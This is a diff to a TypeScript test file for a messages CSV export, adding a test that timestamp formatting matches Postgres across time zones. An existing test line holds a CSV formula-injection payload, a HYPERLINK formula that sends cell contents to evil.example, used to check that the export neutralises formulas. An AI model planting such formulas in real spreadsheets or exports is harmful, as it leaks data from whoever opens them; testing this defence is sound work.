@@ -14,6 +14,7 @@ import { eventsCsv } from './event-export.ts';
 import { messagesCsv } from './message-export.ts';
 import { parseMessageFilters } from './message-filters.ts';
 import { listMessages } from './messages.ts';
+import { isoTime, pgTime } from './csv-stream.ts';
 
 const TZ = 'America/Los_Angeles';
 const ROWS = 5000;
@@ -98,6 +99,19 @@ describe('messagesCsv', () => {
 		expect(rows.at(-2)).toMatchObject({ recipient: `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, phone: '+14155550123' });
 		expect(rows.at(-3)!.body).toBe("'+1 415 555 0123 called");
 		expect(rows.some((r) => r.body === 'not yours')).toBe(false);
+	});
+
+	it("writes each time exactly as to_char(…, 'YYYY-MM-DD\"T\"HH24:MI:SS.MSTZH:TZM') would, in every kind of zone", async () => {
+		for (const zone of ['America/Los_Angeles', 'UTC', 'Asia/Kolkata', 'America/St_Johns', 'Australia/Lord_Howe', 'Europe/Amsterdam']) {
+			const rows = await t.sql.begin(async (tx) => {
+				await tx`select set_config('timezone', ${zone}, true), set_config('datestyle', 'ISO, YMD', true)`;
+				return tx.unsafe<{ pg: string; want: string }[]>(`
+					select ${pgTime('x')} as pg, to_char(x, 'YYYY-MM-DD"T"HH24:MI:SS.MSTZH:TZM') as want
+					from (values (timestamptz '2026-11-20T10:00:00Z'), ('2026-07-01T23:59:59.999999Z'), ('2026-03-29T01:00:00.5Z'),
+						('2026-12-31T12:00:00.000123Z'), ('1890-01-01T12:00:00Z'), ('2026-01-01T00:00:00.010Z')) v (x)`);
+			});
+			for (const r of rows) expect(isoTime(r.pg), `${zone} ${r.pg}`).toBe(r.want);
+		}
 	});
 
 	it("names users by e-mail in every batch: the look-up runs between the cursor's reads", async () => {
